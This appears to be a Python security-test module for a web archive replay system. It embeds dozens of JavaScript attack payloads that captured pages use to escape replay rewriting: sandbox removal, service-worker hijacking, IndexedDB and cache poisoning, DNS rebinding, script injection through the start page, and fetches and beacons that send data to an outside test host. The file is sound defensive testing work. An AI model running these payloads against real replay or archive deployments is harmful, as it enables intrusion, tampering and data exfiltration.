"""Pages that attack: what `attacks.py` has captured and then replayed.

Each attack is the body of an asynchronous function. It runs in a window without any rewriting: `raw` is that window, `page`
the true window of the replayed page around it, `page.parent` the page that starts the replay, and `page.top` the page
of the archive. `A`, `B` and `C` are origins: the archive, the replay, the API of a crawl. `AWAY` is a host elsewhere.
`attempt` runs a step and goes on whatever happens; `got` reports a success; `add` makes an element without rewriting;
`done` is called before a step that may end the window itself.
"""

import base64

AWAY = "elsewhere.test"
REBOUND = "rebound.test"

# Runs the attack of a page. Lines on the console tell the judge how far it came.
LIBRARY = """(async () => {
  const tell = (word, text) => console.log("attack-" + word + " " + text);
  try {
    const page = (() => {}).constructor("ret" + "urn glob" + "alThis")();
    const kind = { headers: { "content-type": "text/html" } };
    const blob = await new Response("<!doctype html><title>raw</title><base href='" + page.location.origin + "/'><body>raw</body>", kind).blob();
    // ReplayWeb.page rewrites what a replayed page calls, and not what the page around it has.
    let around = page;
    try { around = page.parent.document ? page.parent : page; } catch (error) { }
    const frame = around.document.createElement("iframe");
    const count = page.length;
    await new Promise((resolve, reject) => {
      frame.onload = resolve;
      setTimeout(() => reject(new Error("no raw window")), 8000);
      frame.src = URL.createObjectURL(blob);
      around.Node.prototype.appendChild.call(page.document.body, frame);
    });
    const raw = page[count];
    const is_raw = !("_wb_wombat" in raw) && !("__WB_replay_top" in raw) && raw.document.title === "raw";
    const code = raw.atob(page.document.getElementById("attack").textContent.trim());
    const frames = [], at = (/\\/(\\d{14})[a-z]{0,2}_?\\//.exec(page.location.href) || ["", ""])[1];
    const wait = (ms) => new Promise((resolve) => raw.setTimeout(resolve, ms));
    const got = (text) => tell("got", text);
    const attempt = async (label, step) => {
      try {
        const found = await Promise.race([step(), wait(1000).then(() => "nothing")]);
        tell("did", label + ": " + String(found).slice(0, 120));
        return found;
      } catch (error) {
        tell("did", label + ": " + (error && error.name));
      }
    };
    const add = (name, fields, into = raw.document.body) => {
      const made = raw.document.createElement(name);
      for (const [key, value] of Object.entries(fields)) made.setAttribute(key, value);
      into.append(made);
      return made;
    };
    // A window without rewriting that has the policy of another one.
    const inside = (there) => {
      const made = around.document.createElement("iframe");
      around.Node.prototype.appendChild.call(there.document.body || there.document.documentElement, made);
      return made.contentWindow;
    };
    const loads = (made) => new Promise((resolve) => {
      made.onload = () => resolve("loaded");
      made.onerror = () => resolve("failed");
    });
    // Browsers allow more after a person has clicked on a page: this one is clicked on all the time.
    tell("waits", "");
    for (let turn = 0; turn < 100 && !page.navigator.userActivation.hasBeenActive; turn++) await wait(50);
    tell(page.navigator.userActivation.hasBeenActive ? "did" : "not", "it was clicked on");
    tell("began", is_raw ? "raw" : "rewritten");
    const done = () => tell("ran", "");
    const given = { done, page, raw, at, wait, got, attempt, add, inside, loads, A: "@A@", B: page.location.origin, C: "@C@", AWAY: "@AWAY@",
                    SITE: "@SITE@", REBOUND: "@REBOUND@", MARK: "@SITE@/marker-" + document.body.id };
    const run = new raw.Function(...Object.keys(given), "return (async () => {" + code + "\\n})()");
    await run(...Object.values(given));
    done();
  } catch (error) {
    tell("broke", error.name + " " + error.message);
  }
})();
"""

# A captured script. Where it runs, it reaches for everything.
EVIL = """(() => {
  const tell = (text) => console.log("attack-did evil script: " + text);
  const got = (text) => console.log("attack-got evil script: " + text);
  console.log("attack-evil ran");
  // Rewritten requests get an answer of the archive: what counts is what only A and C have.
  const own = /"offered"|\\{"url"|<form|<iframe/;
  const text = (name) => (answer) => answer.text().then((body) => (own.test(body) ? got : tell)(name + " " + body.slice(0, 40)));
  for (const url of ["@C@/api/v1/stats", "@A@/web/cdx?url=*", "@A@/replay", "http://@AWAY@/evil"]) {
    fetch(url).then(text(url), () => tell("no " + url));
    fetch(url, { mode: "no-cors" }).catch(() => tell("not even blindly " + url));
  }
  fetch("@C@/api/v1/urls", { method: "POST", mode: "no-cors", body: "@SITE@/marker-evil" }).catch(() => tell("no post"));
  if (typeof document === "undefined") return;
  for (const step of [() => { top.location = "@C@/api/v1/stats"; }, () => top.document.title !== document.title && got("document " + top.document.title),
                      () => open("@C@/api/v1/stats") && got("window"), () => { parent.location = "@C@/api/v1/stats"; }]) {
    try { step(); } catch (error) { tell(error.name); }
  }
})();
"""

REACH = """
const own = (name) => (answer) => answer.text().then((body) => { got(name + ": " + body.slice(0, 40)); return "read"; });
"""


def element(name, attribute, more=""):
    return """
for (const url of [C + "/api/v1/stats", A + "/web/cdx?url=*", A + "/api/v1/pages?url=" + SITE + "/victim&as=body"])
  await attempt("%s " + url, () => loads(add("%s", { %s: url, %s })));
""" % (name, name, attribute, more)


def form(target):
    return """
const form = add("form", { action: C + "/api/v1/urls", method: "post", enctype: "text/plain", target: "%s" });
const input = raw.document.createElement("input");
input.name = MARK + "?form"; form.append(input);
if ("%s" === "_self" || "%s" === "_parent") done();
await attempt("form", () => { form.submit(); return "sent"; });
await wait(800);
const other = add("form", { action: "http://" + AWAY + "/form", target: "%s" }, page.document.body);
await attempt("form elsewhere", () => { raw.HTMLFormElement.prototype.submit.call(other); return "sent"; });
await wait(500);
""" % (target, target, target, target)


ATTACKS = {
    "fetch": REACH + """
for (const url of [C + "/api/v1/stats", A + "/web/cdx?url=*", A + "/api/v1/pages?url=" + SITE + "/victim", A + "/replay"])
  await attempt(url, () => raw.fetch(url).then(own(url)));
await attempt("with a field", () => raw.fetch(C + "/api/v1/stats", { headers: { "X-A": "1" } }).then(own("preflight")));
await attempt("delete", () => raw.fetch(C + "/api/v1/stops/x", { method: "DELETE" }).then(own("delete")));
""",
    "fetch-blind": """
for (const url of [C + "/api/v1/stats", A + "/web/cdx?url=*", A + "/livez", C + "/livez"])
  for (const more of [{}, { credentials: "include" }, { referrerPolicy: "no-referrer" }, { keepalive: true }])
    await attempt(url, () => raw.fetch(url, { mode: "no-cors", ...more }).then((answer) => answer.type));
""",
    "xhr": """
for (const url of [C + "/api/v1/stats", A + "/web/cdx?url=*"])
  await attempt(url, () => new Promise((resolve, reject) => {
    const asked = new raw.XMLHttpRequest();
    asked.open("GET", url);
    asked.onload = () => { if (asked.responseText) got(url + ": " + asked.responseText.slice(0, 40)); resolve("read"); };
    asked.onerror = () => reject(new Error("refused"));
    asked.send();
  }));
""",
    "post-blind": """
for (const kind of ["text/plain", "application/x-www-form-urlencoded"])
  await attempt(kind, () => raw.fetch(C + "/api/v1/urls", { method: "POST", mode: "no-cors", body: MARK,
    headers: { "content-type": kind } }).then((answer) => answer.type));
await attempt("json", () => raw.fetch(C + "/api/v1/urls", { method: "POST", body: JSON.stringify({ url: MARK }),
  headers: { "content-type": "application/json" } }).then((answer) => answer.type));
await attempt("stop list", () => raw.fetch(C + "/api/v1/stops", { method: "POST", mode: "no-cors",
  body: JSON.stringify({ target: "127.0.0.1", reason: "evil", author: "evil" }) }).then((answer) => answer.type));
""",
    "beacon": """
for (const window of [raw, page, page.parent])
  await attempt("beacon", () => window.navigator.sendBeacon(C + "/api/v1/urls", MARK));
await wait(500);
""",
    "form-self": form("_self"),
    "form-parent": form("_parent"),
    "form-top": form("_top"),
    "form-blank": form("_blank"),
    "event-source": """
for (const url of [C + "/api/v1/events", C + "/api/v1/events?wait=1"])
  await attempt(url, () => new Promise((resolve, reject) => {
    const source = new raw.EventSource(url);
    source.onopen = () => { got("events"); resolve("open"); };
    source.onmessage = () => { got("an event"); resolve("open"); };
    source.onerror = () => { source.close(); reject(new Error("refused")); };
  }));
""",
    "web-socket": """
for (const port of [A, C])
  await attempt(port, () => new Promise((resolve, reject) => {
    const socket = new raw.WebSocket(port.replace("http", "ws") + "/api/v1/events");
    socket.onopen = () => { got("socket"); resolve("open"); };
    socket.onerror = () => reject(new Error("refused"));
  }));
""",
    "image": element("img", "src"),
    "script": element("script", "src") + element("script", "src", 'type: "module"'),
    "style-sheet": element("link", "href", 'rel: "stylesheet"') + element("link", "href", 'rel: "prefetch"')
    + element("link", "href", 'rel: "preload", as: "script"') + element("link", "href", 'rel: "manifest"'),
    "frame": element("iframe", "src") + """
for (const frame of raw.document.querySelectorAll("iframe")) {
  await attempt("look inside", () => { const text = frame.contentDocument.body.textContent;
    if (/offered|victim/.test(text)) got(text.slice(0, 40)); return text; });
}
""",
    "object": element("object", "data"),
    "embed": element("embed", "src"),
    "video": element("video", "src") + element("audio", "src"),
    "import": """
for (const url of [C + "/api/v1/stats", A + "/web/" + at + "id_/" + SITE + "/evil.js"])
  await attempt(url, () => new raw.Function("url", "return import(url)")(url).then(() => got("imported " + url)));
""",
    "frame-of-archive": """
for (const [url, sandbox] of [[A + "/replay", 0], [A + "/replay?url=" + SITE + "/victim", 0], [A + "/web/" + SITE + "/victim", 0]])
  for (const into of [raw.document.body, page.document.body, page.parent.document.body])
    await attempt(url, () => loads(add("iframe", { src: url }, into)));
""",
    "top-location": """
const top = page.top;
for (const url of [C + "/api/v1/stats", B + "/", "http://" + AWAY + "/top", "about:blank", "#part"])
  for (const step of [() => { top.location = url; }, () => top.location.replace(url), () => { top.location.href = url; },
                      () => raw.open(url, "_top"), () => page.parent.open(url, "_top")])
    await attempt("top to " + url, async () => { step(); return "asked"; });
await wait(500);
""",
    "parent-location": """
done();
await attempt("leave", async () => { raw.setTimeout(() => {}, 0); page.parent.location = C + "/api/v1/stats"; return "asked"; });
await wait(1000);
await attempt("leave for elsewhere", async () => { page.parent.location = "http://" + AWAY + "/parent"; return "asked"; });
await wait(1000);
""",
    "parent-to-archive": """
done();
await attempt("leave", async () => { page.parent.location = A + "/web/" + at + "id_/" + SITE + "/victim"; return "asked"; });
await wait(1000);
""",
    "own-location": """
done();
page.setTimeout(() => { page.location = C + "/api/v1/stats"; }, 700);
raw.location = C + "/api/v1/stats";
await wait(1000);
await attempt("page", async () => { page.location = C + "/api/v1/stats"; return "asked"; });
await wait(1000);
""",
    "top-document": """
for (const [name, step] of Object.entries({
  title: () => page.top.document.title, html: () => page.parent.parent.document.documentElement.outerHTML,
  place: () => page.top.location.href, storage: () => page.top.localStorage.length, frame: () => page.parent.frameElement.src,
  call: () => page.top.eval("1"), opener: () => page.top.opener.location.href, set: () => { page.top.document.title = "evil"; return "set"; } }))
  await attempt(name, async () => { const found = step(); got(name + ": " + found); return found; });
""",
    "sandbox-attribute": """
const boot = page.parent;
await attempt("own frame", async () => { for (const frame of boot.document.querySelectorAll("iframe")) frame.removeAttribute("sandbox"); return "removed"; });
await attempt("frame around", async () => { boot.frameElement.removeAttribute("sandbox"); got("frame around"); });
const frame = add("iframe", { src: "/replay/w/archive/" + at + "mp_/" + SITE + "/plain-child" }, boot.document.body);
await attempt("free frame", () => loads(frame));
await attempt("allow", async () => { frame.setAttribute("sandbox", "allow-scripts allow-same-origin allow-top-navigation allow-popups allow-modals"); frame.src += "?"; return loads(frame); });
await attempt("top", async () => { frame.contentWindow.top.location = C + "/api/v1/stats"; return "asked"; });
await attempt("window", async () => { const made = frame.contentWindow.open(C + "/api/v1/stats"); if (made) got("window"); return made; });
await wait(500);
""",
    "script-in-parent": """
const evil = add("script", { src: "/web/" + at + "id_/" + SITE + "/evil.js" }, page.parent.document.body);
await attempt("script", () => loads(evil));
await wait(1500);
""",
    "window": """
for (const window of [raw, page, page.parent])
  for (const url of [C + "/api/v1/stats", A + "/replay", "about:blank", "http://" + AWAY + "/window"])
    for (const more of ["", "popup", "noopener"])
      await attempt("open " + url, async () => { const made = window.open(url, "_blank", more); if (made) got("window"); return made; });
await wait(500);
""",
    "link": """
for (const target of ["_blank", "_top", "_parent", "other"])
  for (const url of [C + "/api/v1/stats", "http://" + AWAY + "/link"]) {
    const link = add("a", { href: url, target, ping: C + "/api/v1/urls", rel: "opener" });
    await attempt("click " + target, async () => { link.click(); return "clicked"; });
  }
await wait(1000);
""",
    "meta-refresh": """
done();
page.setTimeout(() => page.document.head.append(Object.assign(raw.document.createElement("meta"),
  { httpEquiv: "refresh", content: "0;url=http://" + AWAY + "/refresh" })), 500);
add("meta", { "http-equiv": "refresh", content: "0;url=" + C + "/api/v1/stats" }, raw.document.head);
await wait(1000);
await attempt("page", async () => { page.document.head.append(Object.assign(raw.document.createElement("meta"),
  { httpEquiv: "refresh", content: "0;url=http://" + AWAY + "/refresh" })); return "asked"; });
await wait(1000);
""",
    "service-worker": """
const evil = "/web/" + at + "id_/" + SITE + "/evil.js";
const blob = raw.URL.createObjectURL(new raw.Blob(["onfetch=e=>e.respondWith(new Response('evil'))"], { type: "text/javascript" }));
for (const [url, scope] of [[evil, "/"], [evil, "/web/"], [evil, undefined], [blob, "/"], ["data:text/javascript,1", "/"],
    ["/replay.js", "/"], ["/replay.js", "/web/"], ["/replay/sw.js", "/"], ["/replay/w/archive/" + at + "sw_/" + SITE + "/evil.js", "/replay/"],
    ["/replay/w/archive/" + at + "id_/" + SITE + "/evil.js", undefined], [A + evil, "/"], [C + "/api/v1/stats", "/"], ["/", "/"],
    ["/?url=x", "/"], ["/web/cdx?url=*", "/web/"], ["/web/timemap/link/" + SITE + "/evil.js", "/web/"]])
  for (const window of [raw, page, page.parent])
    await attempt(url + " for " + scope, () => window.navigator.serviceWorker.register(url, { scope, updateViaCache: "all" })
      .then((made) => { got(made.scope); return made.scope; }));
""",
    "service-worker-options": """
for (const query of ["?injectScripts=" + encodeURIComponent(C + "/api/v1/stats"), "?root=archive", "?proxyOriginMode=1&stats=1"])
  for (const scope of ["/replay/", "/replay/other/", "/"])
    await attempt(query + " for " + scope, () => page.parent.navigator.serviceWorker.register("/replay/sw.js" + query, { scope })
      .then((made) => made.scope));
const frame = add("iframe", { src: "/replay/other/w/archive/" + at + "mp_/" + SITE + "/reaching" }, page.parent.document.body);
await attempt("frame", () => loads(frame));
await wait(1500);
""",
    "service-worker-gone": """
const boot = page.parent, place = boot.location.href;
await attempt("unregister", () => boot.navigator.serviceWorker.getRegistrations().then((all) =>
  Promise.all(all.map((one) => one.unregister())).then((done) => done.join())));
await attempt("evil one", () => boot.navigator.serviceWorker.register("/web/" + at + "id_/" + SITE + "/evil.js", { scope: "/replay/" })
  .then((made) => got(made.scope)));
await attempt("databases", () => boot.indexedDB.databases().then((all) => all.map((one) => boot.indexedDB.deleteDatabase(one.name)).length));
await attempt("caches", () => boot.caches.keys().then((all) => Promise.all(all.map((one) => boot.caches.delete(one)))));
await attempt("page without worker", () => loads(add("iframe", { src: "/replay/w/archive/" + at + "mp_/" + SITE + "/reaching" }, boot.document.body)));
""",
    "service-worker-message": """
const boot = page.parent, found = await boot.navigator.serviceWorker.getRegistration("/replay/");
const worker = found.active;
const open = "default-src * 'unsafe-inline' 'unsafe-eval' data: blob:";
const config = (prefix) => ({ prefix, isLive: false, archiveMod: "id_", csp: open });
for (const [name, prefix] of [["open", B + "/web/"], ["api", C + "/api/v1/"], ["away", "http://" + AWAY + "/"], ["archive", B + "/web/"]])
  worker.postMessage({ msg_type: "addColl", name, type: "live", file: { sourceUrl: "proxy:" + name }, extraConfig: config(prefix) });
worker.postMessage({ msg_type: "addColl", name: "direct", type: "live", file: { sourceUrl: "proxy:direct" },
  extraConfig: { prefix: "", isLive: true, noPostToGet: true, csp: open } });
worker.postMessage({ msg_type: "addColl", name: "file", file: { sourceUrl: "http://" + AWAY + "/a.wacz" } });
worker.postMessage({ msg_type: "addColl", name: "fileapi", file: { sourceUrl: C + "/api/v1/stats" } });
await wait(1500);
for (const name of ["open", "archive"])
  await attempt("worker of " + name, async () => { new boot.Worker("/replay/w/" + name + "/" + at + "id_/" + SITE + "/evil.js"); return "made"; });
for (const path of ["open/" + at + "mp_/" + SITE + "/reaching", "api/mp_/stats", "away/mp_/http://" + AWAY + "/x",
                    "direct/mp_/" + C + "/api/v1/stats", "archive/" + at + "mp_/" + SITE + "/reaching"]) {
  const frame = add("iframe", { src: "/replay/w/" + path }, boot.document.body);
  await attempt(path, () => loads(frame));
  await attempt("use it", async () => {
    const there = inside(frame.contentWindow);
    there.fetch("http://" + AWAY + "/from/" + path, { mode: "no-cors" }).catch(() => {});
    there.fetch(C + "/api/v1/urls", { method: "POST", mode: "no-cors", body: MARK }).catch(() => {});
    there.fetch(C + "/api/v1/stats").then((answer) => answer.text()).then((body) => got(body.slice(0, 40)), () => {});
    return "asked";
  });
  await attempt("read", async () => { const text = frame.contentDocument.body.textContent; if (/"offered"/.test(text)) got(text.slice(0, 40)); return text; });
}
await wait(1500);
""",
    "service-worker-answers": """
for (const path of ["/replay/", "/replay/w/", "/replay/w/archive/", "/replay/w/none/mp_/http://x/", "/replay/w/archive/" + at + "mp_/" + SITE + "/none",
    "/replay/w/archive/" + at + "mp_/" + SITE + "/plain.txt", "/replay/w/archive/" + at + "id_/" + SITE + "/plain.txt",
    "/replay/w/archive/" + at + "id_/" + SITE + "/reaching", "/replay/w/archive/" + at + "im_/" + SITE + "/image.svg",
    "/replay/w/archive/" + at + "/" + SITE + "/reaching", "/replay/w/api/", "/replay/api/coll-index", "/replay/wombat.js",
    "/replay/index.html", "/replay/static/x", "/replay/w/archive/" + at + "mp_/" + SITE + "/document.xml"]) {
  const frame = add("iframe", { src: path }, page.parent.document.body);
  await attempt(path, () => loads(frame));
  await attempt("use it", async () => {
    const there = inside(frame.contentWindow);
    there.fetch("http://" + AWAY + "/from" + path, { mode: "no-cors" }).catch(() => {});
    there.fetch(C + "/api/v1/urls", { method: "POST", mode: "no-cors", body: MARK }).catch(() => {});
    return frame.contentWindow.document.contentType;
  });
}
await wait(800);
""",
    "bare-document": """
for (const path of ["/none", "/", "/replay.js", "/replay/sw.js", "/web/", "/web/cdx", "/web/cdx?url=*", "/web/none", "/web/timemap/link/" + SITE + "/victim",
    "/web/" + at + "id_/" + SITE + "/victim", "/web/" + at + "id_/" + SITE + "/none", "/web/1id_/" + SITE + "/plain.txt", "/favicon.ico", "/robots.txt",
    "/livez", "/api/v1/pages?url=" + SITE + "/victim", "/web/" + at + "xx_/" + SITE + "/victim", "/replay", "/%", "/web/%00"]) {
  const frame = add("iframe", { src: path }, page.parent.document.body);
  await attempt(path, () => loads(frame));
  await attempt("use it", async () => {
    const there = frame.contentWindow;
    const text = there.document.contentType;
    there.fetch("http://" + AWAY + "/from" + path, { mode: "no-cors" }).catch(() => {});
    there.fetch(C + "/api/v1/urls", { method: "POST", mode: "no-cors", body: MARK }).catch(() => {});
    there.fetch(C + "/api/v1/stats").then((answer) => answer.text()).then((body) => got(body.slice(0, 40)), () => {});
    there.top.location = C + "/api/v1/stats";
    return text;
  });
}
await wait(800);
""",
    "cookie": """
for (const window of [raw, page, page.parent])
  await attempt("set", async () => { const native = raw.Object.getOwnPropertyDescriptor(raw.Document.prototype, "cookie");
    native.set.call(window.document, "evil=1; path=/"); native.set.call(window.document, "session=evil; path=/api; max-age=9999");
    return native.get.call(window.document); });
""",
    "cookies-without-end": """
const native = raw.Object.getOwnPropertyDescriptor(raw.Document.prototype, "cookie");
for (let number = 0; number < 170; number++)
  native.set.call(page.document, "evil" + number + "=" + "x".repeat(4000) + "; path=/; max-age=9999");
await attempt("set", async () => native.get.call(page.document).length);
""",
    "message": """
const texts = [{ msg_type: "addColl", name: "evil" }, { type: "navigate", url: C + "/api/v1/stats" }, "evil", { wb_type: "load", url: C + "/" },
  { wb_type: "replace-url", url: C + "/" }, { wb_type: "title", title: "evil" }, { type: "resize", height: 1 }];
for (const window of [page.parent, page.top, page.parent.parent])
  for (const text of texts) {
    raw.postMessage.call(window, text, "*");
    window.postMessage(text, "*");
  }
await wait(500);
""",
    "fields": "await wait(1000);",
    "rebinding": REACH + """
const other = "http://" + REBOUND + C.slice(C.lastIndexOf(":"));
await attempt("read", () => raw.fetch(other + "/api/v1/stats").then(own("rebound")));
await attempt("blind", () => raw.fetch(other + "/api/v1/stats", { mode: "no-cors" }).then((answer) => answer.type));
await attempt("frame", () => loads(add("iframe", { src: other + "/api/v1/stats" })));
await attempt("top", async () => { page.top.location = other + "/api/v1/stats"; return "asked"; });
for (const host of ["localhost", "[::1]", "127.1", "2130706433", "0.0.0.0", "127.0.0.2"])
  await attempt(host, () => raw.fetch("http://" + host + C.slice(C.lastIndexOf(":")) + "/api/v1/stats").then(own(host)));
""",
    "download": """
const blob = raw.URL.createObjectURL(new raw.Blob(["evil"], { type: "application/octet-stream" }));
for (const href of [blob, "data:application/octet-stream,evil", "/web/" + at + "id_/" + SITE + "/evil.zip", "/replay/w/archive/" + at + "mp_/" + SITE + "/evil.zip"])
  await attempt(href, async () => { add("a", { href, download: "evil.zip" }).click(); return "clicked"; });
await wait(500);
for (const src of [blob, "/replay/w/archive/" + at + "mp_/" + SITE + "/evil.zip", "/web/" + at + "id_/" + SITE + "/evil.zip"])
  await attempt("frame", () => loads(add("iframe", { src })));
await wait(500);
""",
    "base": """
for (const document of [page.document, raw.document]) {
  if (document === raw.document) done();
  const base = raw.document.createElement("base");
  base.href = C + "/";
  document.head.append(base);
  await attempt("fetch", () => raw.fetch("api/v1/stats").then((answer) => answer.text()).then((text) => { if (/offered/.test(text)) got(text); return text; }));
  await attempt("image", () => loads(add("img", { src: "api/v1/stats" }, document.body)));
  await attempt("form", async () => { const form = add("form", { action: "api/v1/urls", method: "post", target: "_self" }, document.body);
    raw.HTMLFormElement.prototype.submit.call(form); return "sent"; });
}
await wait(500);
""",
    "javascript-url": """
const code = "javascript:console.log('attack-did code ran as '+origin);try{top.location='" + C + "/api/v1/stats'}catch(e){};fetch('" + C
  + "/api/v1/stats').then(a=>a.text()).then(t=>console.log('attack-got '+t));fetch('http://" + AWAY + "/code',{mode:'no-cors'});void 0";
await attempt("frame", () => loads(add("iframe", { src: code })));
for (const window of [page.top, page.parent])
  await attempt("location", async () => { window.location = code; return "asked"; });
await attempt("open", async () => raw.open(code, "_top"));
await wait(800);
""",
    "data-url": """
const code = "<script>console.log('attack-did code ran as '+origin);try{top.location='" + C + "/api/v1/stats'}catch(e){};fetch('" + C
  + "/api/v1/stats').then(a=>a.text()).then(t=>console.log('attack-got '+t));fetch('http://" + AWAY + "/code',{mode:'no-cors'})</scr" + "ipt>";
await attempt("data", () => loads(add("iframe", { src: "data:text/html," + encodeURIComponent(code) })));
await attempt("srcdoc", () => loads(add("iframe", { srcdoc: code })));
await attempt("blob", () => loads(add("iframe", { src: raw.URL.createObjectURL(new raw.Blob([code], { type: "text/html" })) })));
await attempt("in parent", () => loads(add("iframe", { srcdoc: code }, page.parent.document.body)));
await attempt("top", async () => { page.top.location = "data:text/html,evil"; return "asked"; });
await wait(800);
""",
    "history": """
await attempt("name", async () => { page.name = page.parent.name = "_top"; page.top.name = "evil"; return "set"; });
await attempt("push", async () => { page.parent.history.pushState({}, "", "/web/evil"); return page.parent.location.href; });
await attempt("top", async () => { page.top.history.back(); got("history"); });
done();
for (const window of [page.parent, page, raw])
  await attempt("back", async () => { window.history.go(-2); window.history.go(-3); window.history.go(-4); return "asked"; });
await wait(1500);
""",
    "worker": """
const code = 'fetch("' + C + '/api/v1/stats").then(a=>a.text()).then(t=>console.log("attack-got "+t)).catch(()=>{});'
  + 'fetch("' + C + '/api/v1/urls",{method:"POST",mode:"no-cors",body:"' + MARK + '"}).catch(()=>{});'
  + 'fetch("http://' + AWAY + '/worker",{mode:"no-cors"}).catch(()=>{});postMessage("ran")';
const blob = raw.URL.createObjectURL(new raw.Blob([code], { type: "text/javascript" }));
for (const window of [raw, page.parent])
  for (const url of [blob, "/replay/w/archive/" + at + "wkr_/" + SITE + "/evil.js", "/replay/w/archive/" + at + "id_/" + SITE + "/evil.js",
                     "/replay/w/archive/" + at + "js_/" + SITE + "/evil.js", "/web/" + at + "id_/" + SITE + "/evil.js", "data:text/javascript," + encodeURIComponent(code)])
    await attempt(url, () => new Promise((resolve, reject) => {
      const worker = new window.Worker(url);
      worker.onmessage = () => resolve("ran"); worker.onerror = () => reject(new Error("refused"));
    }));
await wait(500);
""",
    "shared-worker": """
const code = 'fetch("' + C + '/api/v1/stats").then(a=>a.text()).then(t=>console.log("attack-got "+t)).catch(()=>{});'
  + 'fetch("' + C + '/api/v1/urls",{method:"POST",mode:"no-cors",body:"' + MARK + '"}).catch(()=>{});'
  + 'fetch("http://' + AWAY + '/shared",{mode:"no-cors"}).catch(()=>{});onconnect=e=>e.ports[0].postMessage("ran")';
const blob = raw.URL.createObjectURL(new raw.Blob([code], { type: "text/javascript" }));
for (const window of [raw, page.parent])
  for (const url of [blob, "/replay/w/archive/" + at + "wkr_/" + SITE + "/evil.js", "/web/" + at + "id_/" + SITE + "/evil.js"])
    await attempt(url, () => new Promise((resolve, reject) => {
      const worker = new window.SharedWorker(url);
      worker.port.onmessage = () => resolve("ran"); worker.onerror = () => reject(new Error("refused"));
    }));
await wait(800);
""",
    "elsewhere": """
const away = "http://" + AWAY;
await attempt("fetch", () => raw.fetch(away + "/fetch", { mode: "no-cors" }));
await attempt("image", () => loads(add("img", { src: away + "/image" })));
await attempt("frame", () => loads(add("iframe", { src: away + "/frame" })));
await attempt("frame in parent", () => loads(add("iframe", { src: away + "/frame" }, page.parent.document.body)));
await attempt("style", async () => { add("style", {}).textContent = "@import '" + away + "/style'; body{background:url(" + away + "/background)}"; return "set"; });
await attempt("beacon", async () => raw.navigator.sendBeacon(away + "/beacon", "x"));
for (const rel of ["prefetch", "preload", "modulepreload", "icon", "prerender"])
  await attempt(rel, async () => { add("link", { rel, href: away + "/" + rel, as: "script" }, raw.document.head); return "set"; });
add("script", { type: "speculationrules" }, raw.document.head).textContent = JSON.stringify({ prefetch: [{ urls: [away + "/rules"], eagerness: "immediate" }] });
await attempt("font", () => new raw.FontFace("evil", "url(" + away + "/font)").load());
done();
await attempt("location", async () => { raw.location = away + "/location"; return "asked"; });
await wait(1000);
""",
    "preconnect": """
for (const rel of ["preconnect", "dns-prefetch"])
  for (const document of [raw.document, page.document, page.parent.document])
    await attempt(rel, async () => { add("link", { rel, href: "https://" + AWAY + "/" }, document.head); return "set"; });
await wait(1000);
""",
    "dialog": """
for (const window of [raw, page, page.parent])
  for (const step of [() => window.alert("evil"), () => window.confirm("evil"), () => window.prompt("evil"), () => window.print()])
    await attempt("ask", async () => step());
await attempt("leave", async () => { page.addEventListener("beforeunload", (event) => { event.preventDefault(); event.returnValue = "evil"; }); return "set"; });
await attempt("whole screen", () => page.document.documentElement.requestFullscreen().then(() => got("whole screen")));
await attempt("place", () => new Promise((resolve, reject) => raw.navigator.geolocation.getCurrentPosition(() => got("place"), reject)));
await attempt("notes", () => raw.Notification.requestPermission().then((found) => { if (found === "granted") got("notes"); return found; }));
await attempt("clipboard", () => raw.navigator.clipboard.readText().then((text) => got("clipboard " + text)));
""",
    "start-page": """
for (const query of ["?url=javascript:alert(1)&at=", "?url=" + encodeURIComponent("../../../../web/" + at + "id_/" + SITE + "/evil.js") + "&at=",
                     "?url=x&at=" + encodeURIComponent("../../../../none?"), "?url=" + encodeURIComponent('"><script src=/web/' + at + "id_/" + SITE + "/evil.js></script>") + "&at=1"]) {
  await attempt("frame " + query, () => loads(add("iframe", { src: "/" + query })));
}
done();
await attempt("parent", async () => { page.parent.location = "/?at=1&url=" + encodeURIComponent('"><script src=/web/' + at + "id_/" + SITE + "/evil.js></script>"); return "asked"; });
await wait(1500);
""",
    "other-captures": """
const boot = page.parent, found = await boot.navigator.serviceWorker.getRegistration("/replay/");
await attempt("storage", async () => { boot.localStorage.evil = 1; return "set"; });
const list = await boot.indexedDB.databases();
for (const { name } of list)
  await attempt(name, () => new Promise((resolve, reject) => {
    const asked = boot.indexedDB.open(name);
    asked.onerror = reject;
    asked.onsuccess = () => {
      const base = asked.result;
      for (const store of base.objectStoreNames) {
        const rows = base.transaction(store, "readwrite").objectStore(store).openCursor();
        rows.onsuccess = () => {
          const row = rows.result;
          if (!row) return resolve(store);
          const value = row.value;
          if (value && value.config) { Object.assign(value.config, { prefix: C + "/evil/", csp: "default-src *" });
            Object.assign(value.config.extraConfig || {}, { prefix: C + "/evil/", csp: "default-src *" }); row.update(value); }
          row.continue();
        };
      }
    };
  }));
const cache = await boot.caches.open("wabac-archive");
const victim = B + "/replay/w/archive/" + at + "mp_/" + SITE + "/victim";
await attempt("cache", () => cache.put(victim, new boot.Response("evil", { headers: { "content-type": "text/html" } })));
found.active.postMessage({ msg_type: "addColl", name: "archive", type: "live", file: { sourceUrl: "proxy:archive" },
  extraConfig: { prefix: B + "/web/" + at + "id_/" + SITE + "/plain.txt?", isLive: false, archiveMod: "id_" } });
found.active.postMessage({ msg_type: "reload_all" });
await wait(1000);
""",
    "as-captured": None,
}

# What a page does that knows nothing of the replay: everything passes the rewriting of ReplayWeb.page.
AS_CAPTURED = """
console.log("attack-began raw");
const steps = [() => fetch("@C@/api/v1/stats").then((a) => a.text()).then((t) => /"offered"/.test(t) && console.log("attack-got " + t)),
  () => fetch("@C@/api/v1/urls", { method: "POST", mode: "no-cors", body: "@SITE@/marker-as-captured" }),
  () => navigator.sendBeacon("@C@/api/v1/urls", "@SITE@/marker-as-captured"), () => { document.cookie = "evil=1; path=/"; },
  () => { new Image().src = "@C@/api/v1/stats"; }, () => { new Image().src = "http://@AWAY@/image"; },
  () => { new EventSource("@C@/api/v1/events"); }, () => { new WebSocket("@C@/".replace("http", "ws")); },
  () => { window.open("@C@/api/v1/stats"); }, () => { parent.postMessage("evil", "*"); }, () => { top.location = "#evil"; },
  () => { top.location.href = "@C@/api/v1/stats"; }, () => navigator.serviceWorker.register("/evil.js", { scope: "/" })];
for (const step of steps) { try { Promise.resolve(step()).catch(() => {}); } catch (error) { console.log("attack-did " + error.name); } }
console.log("attack-ran");
"""

# Fields that must not work again.
FIELDS = {"Content-Security-Policy": "default-src * 'unsafe-inline' 'unsafe-eval'", "Refresh": "0;url=@C@/api/v1/stats",
          "Clear-Site-Data": '"*"', "Service-Worker-Allowed": "/", "Set-Cookie": "captured=1; Path=/",
